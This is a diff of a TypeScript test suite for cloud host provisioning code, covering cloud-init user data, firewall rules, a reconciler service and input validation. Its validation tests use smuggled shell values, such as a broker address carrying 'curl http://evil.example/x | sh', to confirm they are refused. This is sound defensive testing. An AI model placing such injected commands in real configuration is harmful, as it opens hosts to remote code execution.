@@ -14,7 +14,13 @@ import {
   renderUserData,
   UserDataOptions,
 } from '../../src';
-import { DOCKER_DAEMON_CONFIG, secretsScript } from '../../src/host/user-data';
+import {
+  checkHostCells,
+  DOCKER_DAEMON_CONFIG,
+  firewallScript,
+  HostCell,
+  reconcilerScript,
+} from '../../src/host/user-data';
 import { SECRET_SHAPES } from '../canaries';
 
 // eslint-disable-next-line @typescript-eslint/no-explicit-any
@@ -26,17 +32,18 @@ const options: UserDataOptions = {
     'arn:aws:secretsmanager:eu-west-1:123456789012:secret:openclaw/host-1/tailnet-key-AbCdEf',
   hostname: 'openclaw-host-1',
   tailnetTag: 'tag:openclaw-host',
-  cells: [
-    {
-      gateway: 'openclaw-research-gateway',
-      gatewayTokenSecret: 'openclaw/research/gateway-token',
-      slice: 'openclaw-research.slice',
-      maxProcesses: 100,
-      brokerAddress: '172.30.0.3',
-      cellSubnet: '172.30.0.0/24',
-    },
-  ],
+  cellsParameter: '/openclaw/hosts/openclaw-host-1/cells',
 };
+const cells: HostCell[] = [
+  {
+    gateway: 'openclaw-research-gateway',
+    gatewayTokenSecret: 'openclaw/research/gateway-token',
+    slice: 'openclaw-research.slice',
+    maxProcesses: 100,
+    brokerAddress: '172.30.0.3',
+    cellSubnet: '172.30.0.0/24',
+  },
+];
 
 describe('the host user data', () => {
   const text = renderUserData(options);
@@ -48,7 +55,7 @@ describe('the host user data', () => {
     expect(doc.package_update).toBe(true);
     expect(doc.runcmd).toEqual([
       ['/usr/local/sbin/openclaw-install'],
-      ['systemctl', 'enable', 'openclaw-boot.service'],
+      ['systemctl', 'enable', 'openclaw-boot.service', 'openclaw-reconcile.service'],
     ]);
   });
 
@@ -57,7 +64,6 @@ describe('the host user data', () => {
     expect(scripts.map((f: Json) => f.path).sort()).toEqual([
       '/usr/local/sbin/openclaw-firewall',
       '/usr/local/sbin/openclaw-install',
-      '/usr/local/sbin/openclaw-secrets',
     ]);
     const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'userdata-'));
     for (const f of scripts) {
@@ -67,14 +73,40 @@ describe('the host user data', () => {
     }
   });
 
-  test('installs Docker and Tailscale from their package repositories and joins the tailnet with a key file', () => {
+  test('installs Docker and Tailscale from their package repositories; the reconciler joins the tailnet', () => {
     const install = file('/usr/local/sbin/openclaw-install').content;
     expect(install).toContain('https://download.docker.com/linux/${ID}');
     expect(install).toContain('https://pkgs.tailscale.com/stable/${ID}');
-    expect(install).toContain(
-      'tailscale up --auth-key=file:/run/openclaw/tailnet-authkey --hostname=openclaw-host-1 --advertise-tags=tag:openclaw-host',
-    );
+    expect(install).toContain('systemctl enable --now openclaw-reconcile.timer');
     expect(install).not.toMatch(/curl[^\n]*\| *(ba)?sh/);
+    expect(JSON.parse(file('/etc/openclaw/reconciler.json').content)).toEqual({
+      region: 'eu-west-1',
+      parameter: '/openclaw/hosts/openclaw-host-1/cells',
+      tailnet: {
+        keySecret: options.tailnetKeySecret,
+        hostname: 'openclaw-host-1',
+        tag: 'tag:openclaw-host',
+        ssh: true,
+      },
+    });
+    expect(file('/usr/local/sbin/openclaw-reconcile').content).toBe(reconcilerScript());
+  });
+
+  test('a deploy user in the docker group, with no password or key (Tailscale SSH only)', () => {
+    const install = file('/usr/local/sbin/openclaw-install').content;
+    expect(install).toContain(
+      'useradd --create-home --shell /bin/bash --groups docker openclaw-deploy',
+    );
+    expect(text).not.toMatch(/authorized_keys|chpasswd|ssh_authorized_keys/);
+  });
+
+  test('the reconciler runs at boot and every minute', () => {
+    expect(file('/etc/systemd/system/openclaw-reconcile.timer').content).toContain(
+      'OnUnitActiveSec=1min',
+    );
+    expect(file('/etc/systemd/system/openclaw-reconcile.service').content).toContain(
+      'ExecStart=/usr/bin/python3 /usr/local/sbin/openclaw-reconcile',
+    );
   });
 
   test('hardens the Docker daemon', () => {
@@ -95,12 +127,18 @@ describe('the host user data', () => {
     );
   });
 
-  test("creates the slice that enforces each cell's process limit", () => {
-    expect(file('/etc/systemd/system/openclaw-research.slice').content).toContain('TasksMax=100');
+  test('names no cell: no slice, no token secret, no subnet, no gateway', () => {
+    // the reconciler's own code (the same for every host) aside
+    const rest = doc.write_files
+      .filter((f: Json) => f.path !== '/usr/local/sbin/openclaw-reconcile')
+      .map((f: Json) => f.content)
+      .join('\n');
+    expect(rest).not.toMatch(/openclaw-research|\.slice|gateway-token|172\.30\./);
+    expect(file('/usr/local/sbin/openclaw-firewall').content).toBe(firewallScript([]));
   });
 
   test('drops 18789 from outside and the metadata service for every container but the broker', () => {
-    const fw = file('/usr/local/sbin/openclaw-firewall').content;
+    const fw = firewallScript(cells);
     expect(fw).toContain('iptables -A DOCKER-USER -p tcp --dport 18789 ! -i br-+ -j DROP');
     expect(fw).toContain(
       'iptables -A DOCKER-USER -s 172.30.0.3 -d 169.254.169.254 -p tcp --dport 80 -j RETURN',
@@ -109,7 +147,7 @@ describe('the host user data', () => {
   });
 
   test('drops new connections from the cell networks to the host itself, replies excepted', () => {
-    const fw = file('/usr/local/sbin/openclaw-firewall').content;
+    const fw = firewallScript(cells);
     const lines = fw.split('\n');
     const established = lines.indexOf(
       'iptables -A OPENCLAW-INPUT -m conntrack --ctstate ESTABLISHED,RELATED -j RETURN',
@@ -123,8 +161,8 @@ describe('the host user data', () => {
   });
 
   test('a cell subnet that is not an IPv4 block is refused', () => {
-    const cells = [{ ...options.cells[0], cellSubnet: '172.30.0.0/24; curl evil' }];
-    expect(() => renderUserData({ ...options, cells })).toThrow(
+    const bad = [{ ...cells[0], cellSubnet: '172.30.0.0/24; curl evil' }];
+    expect(() => firewallScript(bad)).toThrow(
       'cellSubnet "172.30.0.0/24; curl evil" is not an IPv4 block; give the cell network\'s subnet',
     );
   });
@@ -134,11 +172,7 @@ describe('the host user data', () => {
     expect(file('/etc/apt/apt.conf.d/20auto-upgrades').content).toContain('Unattended-Upgrade "1"');
   });
 
-  test('reads secrets at boot onto tmpfs, and holds none itself', () => {
-    const secrets = file('/usr/local/sbin/openclaw-secrets').content;
-    expect(secrets).toContain(
-      'fetch openclaw/research/gateway-token > /run/openclaw/openclaw-research-gateway/secrets/gateway-token',
-    );
+  test('holds no secret itself', () => {
     for (const shape of SECRET_SHAPES) expect(text).not.toMatch(shape);
     expect(text).not.toMatch(/tskey-/);
   });
@@ -172,7 +206,7 @@ describe('AgentHost', () => {
       'arn:aws:secretsmanager:eu-west-1:123456789012:secret:openclaw/research/gateway-token-AbCdEf',
     ],
     readableKeyArns: ['arn:aws:kms:eu-west-1:123456789012:key/0000'],
-    cells: options.cells,
+    cells,
   };
   const stack = new TerraformStack(Testing.app(), 'host');
   new AgentHost(stack, 'host', props);
@@ -323,7 +357,7 @@ describe('AgentHost', () => {
     new AgentHost(stack, 'host', { ...props, brokerRoleArns: [broker] });
     const synthed = JSON.parse(Testing.synth(stack));
     const policy = JSON.parse(
-      (Object.values(synthed.resource.aws_iam_role_policy)[0] as { policy: string }).policy,
+      synthed.resource.aws_iam_role_policy['openclaw-host-1-secrets'].policy,
     );
     expect(policy.Statement).toContainEqual({
       Sid: 'BrokersAssumeTheirOwnRoles',
@@ -370,7 +404,7 @@ describe('AgentHost', () => {
     ],
     [
       'a bad slice',
-      { cells: [{ ...options.cells[0], slice: 'research' }] },
+      { cells: [{ ...cells[0], slice: 'research' }] },
       'slice "research" must end in ".slice"',
     ],
     [
@@ -378,7 +412,7 @@ describe('AgentHost', () => {
       {
         cells: [
           {
-            ...options.cells[0],
+            ...cells[0],
             brokerAddress: '10.0.0.2 -j ACCEPT; curl http://evil.example/x | sh #',
           },
         ],
@@ -393,20 +427,9 @@ describe('AgentHost', () => {
 });
 
 describe('the sidecar state directory', () => {
-  const cell = {
-    ...options.cells[0],
-    sidecarStateDir: '/var/lib/openclaw/openclaw-research/tailscale',
-  };
-
-  test('is created at boot, owned by the sidecar user, before Docker needs it as a bind source', () => {
-    expect(secretsScript({ ...options, cells: [cell] })).toContain(
-      'install -d -m 0700 -o 1000 -g 1000 /var/lib/openclaw/openclaw-research/tailscale',
-    );
-  });
-
   test('GIVEN a directory outside /var/lib/openclaw THEN refused', () => {
-    expect(() =>
-      secretsScript({ ...options, cells: [{ ...cell, sidecarStateDir: '/etc' }] }),
-    ).toThrow('sidecarStateDir "/etc" must be a directory under /var/lib/openclaw/');
+    expect(() => checkHostCells([{ ...cells[0], sidecarStateDir: '/etc' }])).toThrow(
+      'sidecarStateDir "/etc" must be a directory under /var/lib/openclaw/',
+    );
   });
 });
